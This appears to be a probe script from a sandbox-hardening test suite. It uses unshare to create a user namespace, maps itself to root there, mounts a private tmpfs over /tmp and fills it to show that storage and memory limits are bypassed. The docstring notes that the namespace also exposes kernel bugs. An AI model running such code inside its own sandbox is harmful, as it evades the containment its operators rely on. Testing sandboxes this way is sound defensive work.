"""Makes a user namespace of its own inside the sandbox (unshare), where it is root, and
mounts a tmpfs there: a place to write that no size of the sandbox's own /tmp caps (and
whose pages the memory limit of a process does not count), and a namespace in which
later kernels' bugs are reached."""

from __future__ import annotations

import ctypes
import os

from _play import learned, play, refused

CLONE_NEWUSER, CLONE_NEWNS = 0x10000000, 0x00020000


def attack() -> None:
    libc = ctypes.CDLL(None, use_errno=True)
    uid, gid = os.getuid(), os.getgid()
    if libc.unshare(CLONE_NEWUSER | CLONE_NEWNS) != 0:
        refused(f"unshare: {os.strerror(ctypes.get_errno())}")
        return
    for name, text in (("setgroups", "deny"), ("uid_map", f"0 {uid} 1"),
                       ("gid_map", f"0 {gid} 1")):  # root in its own namespace
        with open(f"/proc/self/{name}", "w") as mapping:
            mapping.write(text)
    if libc.mount(b"none", b"/tmp", b"tmpfs", 0, b"size=1g") != 0:
        refused(f"mount: {os.strerror(ctypes.get_errno())}")
        return
    with open("/tmp/filler", "wb") as filler:
        for _ in range(int(os.environ.get("FILL_MB", "80"))):
            filler.write(bytes(1 << 20))
    learned(f"wrote {os.path.getsize('/tmp/filler') >> 20} MiB in a tmpfs of its own")


attack()
play()
